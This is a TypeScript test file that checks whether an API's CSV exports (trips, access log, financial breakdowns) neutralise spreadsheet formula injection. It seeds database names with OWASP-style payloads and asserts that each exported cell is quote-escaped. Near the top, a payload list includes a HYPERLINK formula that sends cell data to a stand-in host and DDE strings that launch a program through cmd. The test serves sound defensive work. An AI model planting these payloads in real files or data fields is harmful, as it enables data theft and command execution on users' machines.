// Every CSV the API writes keeps a spreadsheet from running a cell as a formula, whatever names the data holds.
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BREAKDOWNS } from '@/domain/analytics/financial';
import { rawRows } from '@/server/db/raw-query';
import { seedDemoData } from '@/server/db/seed';
import { csvRows } from '../support/csv-rows';
import { signedIn } from './fixtures';
import { startTestApp, type TestApp } from './harness';

/** OWASP's four formula starts and a semicolon's, as an organisation or a place could be named. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|" /C calc"!A0', ';=1+1'];
// a cell a spreadsheet would evaluate: a formula start (or a semicolon before one), unless it is a plain negative number
const RUNNABLE = /^(?:[=+@\t\r;\uFF1D\uFF0B\uFF20\uFF1B]|-(?!\d+(?:\.\d+)?$))/;

let t: TestApp;
let auth: Record<string, string>;
beforeAll(async () => {
  t = await startTestApp();
  await seedDemoData(t.db);
  auth = (await signedIn(t.app, t.db, 'ADMIN')).auth;
  // every facility, agency and trip place is given one of the formulas as the start of its name
  const oneOf = sql`(array[${FORMULAS[0]}, ${FORMULAS[1]}, ${FORMULAS[2]}, ${FORMULAS[3]}, ${FORMULAS[4]}])[1 + (abs(hashtext(id::text)) % 5)]`;
  await rawRows(t.db, sql`update hospitals set name = ${oneOf} || ' ' || id`);
  await rawRows(t.db, sql`update agencies set name = ${oneOf} || ' ' || id`);
  await rawRows(t.db, sql`update trips set from_location = ${FORMULAS[1]} || ' ' || id, to_location = ${FORMULAS[4]} || ' ' || id, patient_id = ${FORMULAS[2]}`);
});
afterAll(() => t.close());

const window = `from=${encodeURIComponent(new Date(Date.now() - 90 * 86_400_000).toISOString())}&to=${encodeURIComponent(new Date().toISOString())}`;
const CSV_URLS = ['/api/trips/export', '/api/access-log/export', ...BREAKDOWNS.map((by) => `/api/tcc/financial/breakdown.csv?by=${by}&${window}`)];

describe('CSV files', () => {
  it('every route that answers a CSV file is one of those checked here', () => {
    const csvRoutes = t.app.routeList.filter((r) => /\.csv$|\/export$/.test(r.url)).map((r) => r.url);
    expect(new Set(csvRoutes)).toEqual(new Set(CSV_URLS.map((u) => u.split('?')[0])));
  });

  it.each(CSV_URLS)('%s: no cell starts a formula, and the names are all there behind a quote', async (url) => {
    const res = await t.app.inject({ method: 'GET', url, headers: auth });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const cells = csvRows(res.body).flat();
    expect(cells.length).toBeGreaterThan(4);
    expect(cells.filter((c) => RUNNABLE.test(c))).toEqual([]);
    if (/by=(facility|agency)|export/.test(url)) {
      const quoted = cells.filter((c) => FORMULAS.some((f) => c.startsWith(`'${f}`)));
      expect(quoted.length, 'the formula names reach the file, quoted').toBeGreaterThan(0);
    }
  });
});
